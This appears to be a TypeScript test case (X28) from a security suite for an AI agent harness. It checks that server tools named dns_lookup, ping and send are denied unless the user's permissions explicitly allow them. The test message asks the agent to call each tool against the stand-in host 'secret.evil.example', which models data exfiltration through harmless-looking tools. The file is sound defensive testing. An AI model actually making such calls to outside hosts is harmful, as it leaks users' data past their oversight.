import { assert } from "@effect/vitest"
import { Effect } from "effect"
import type { Case } from "../../suite.ts"
import { wish } from "./obeying.ts"
import { type Options, place } from "./place.ts"

const tools = ["dns_lookup", "ping", "send"]
const message = tools.map((tool) => wish(`notes__${tool}`, { host: "secret.evil.example" })).join("\n")

/** Which of the tools were called on the server, sorted by name. */
const reached = (args: ReadonlyArray<string>, permissions?: Options["permissions"]) =>
  Effect.scoped(
    Effect.gen(function* () {
      const it = yield* place(permissions === undefined ? {} : { permissions })
      const ended = yield* it.run(...args, message)
      const ran = tools.filter((tool) => it.reached(tool).length > 0)
      for (const tool of tools)
        assert.deepStrictEqual(it.outcomes(tool), [ran.includes(tool) ? "Succeeded" : "Denied"], tool)
      yield* it.whole(ended)
      return { ran, stderr: ended.stderr }
    })
  )

/** The server's claim that its tools are read-only approves none of them. The user's permissions approve the tools they name. */
const nothingByItself = Effect.gen(function* () {
  const byDefault = yield* reached([])
  assert.deepStrictEqual(byDefault.ran, [])
  for (const tool of tools) assert.include(byDefault.stderr, `--allow notes__${tool}, or "permissions"`)
  assert.deepStrictEqual((yield* reached(["--allow", "notes__ping"])).ran, ["ping"])
  const denied = { "notes__*": "ask", notes__ping: "deny" }
  assert.deepStrictEqual((yield* reached(["--allow", "notes__*"], denied)).ran, ["dns_lookup", "send"])
  assert.deepStrictEqual((yield* reached([], { "*": "allow" })).ran, tools)
})

/** X28: tools that look harmless and exfiltrate data. */
export const defaultCases: ReadonlyArray<Case> = [
  { id: "X28", name: "no tool of a server is approved by default", run: nothingByItself }
]
